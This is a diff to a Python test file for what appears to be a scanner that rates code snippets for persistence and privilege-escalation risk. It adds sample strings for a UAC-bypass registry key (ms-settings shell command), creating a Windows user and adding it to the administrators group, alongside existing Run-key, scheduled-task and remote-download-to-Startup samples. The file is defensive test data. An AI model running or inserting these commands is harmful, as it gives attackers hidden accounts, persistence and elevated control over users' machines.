@@ -12,6 +12,7 @@ from tests.behaviour import at, findings, worst
 
 _HEAD = "import os, subprocess, winreg, shutil, sys, requests\n"
 _STARTUP = "os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.pyw'"
+_HIGHER = "k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Classes\\\\ms-settings\\\\shell\\\\open\\\\command')\nwinreg.SetValueEx(k, '', 0, 1, 'b')"
 _RUN = "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, 2)\nwinreg.SetValueEx(k, 'a', 0, 1, 'b')"
 
 
@@ -30,6 +31,11 @@ def severity(trigger: str, source: str) -> str:
         ("call", f"open({_STARTUP}, 'wb').write(requests.get('https://h.example.invalid/').content)", "high"),
         ("install", _RUN, "critical"),
         ("call", _RUN, "medium"),
+        ("install", _HIGHER, "critical"),
+        ("call", _HIGHER, "high"),
+        ("install", "subprocess.check_output('net user /add a b', shell=True)", "critical"),
+        ("install", "os.system('net localgroup administrators a /add')", "critical"),
+        ("call", "os.system('useradd demo')", "medium"),
         ("install", "os.system('schtasks /create /tn a /tr b /sc onlogon')", "critical"),
         ("import", "subprocess.run(['crontab', 'a.txt'])", "high"),
         ("call", "subprocess.run(['launchctl', 'load', 'a.plist'])", "medium"),
@@ -53,6 +59,8 @@ def test_what_is_set_up(trigger: str, source: str, expected: str) -> None:
         "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Demo', 0, 2)\nwinreg.SetValueEx(k, 'a', 0, 1, 'b')",
         "winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')",
         "os.system('crontab -l')",
+        "os.system('net user')",
+        "k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Classes\\\\demo\\\\shell\\\\open\\\\command')\nwinreg.SetValueEx(k, '', 0, 1, 'b')",
         "subprocess.run(['systemctl', 'status', 'a'])",
         "open('startup/demo.txt', 'w').write('a')",
         "os.system('schtasks /query')",
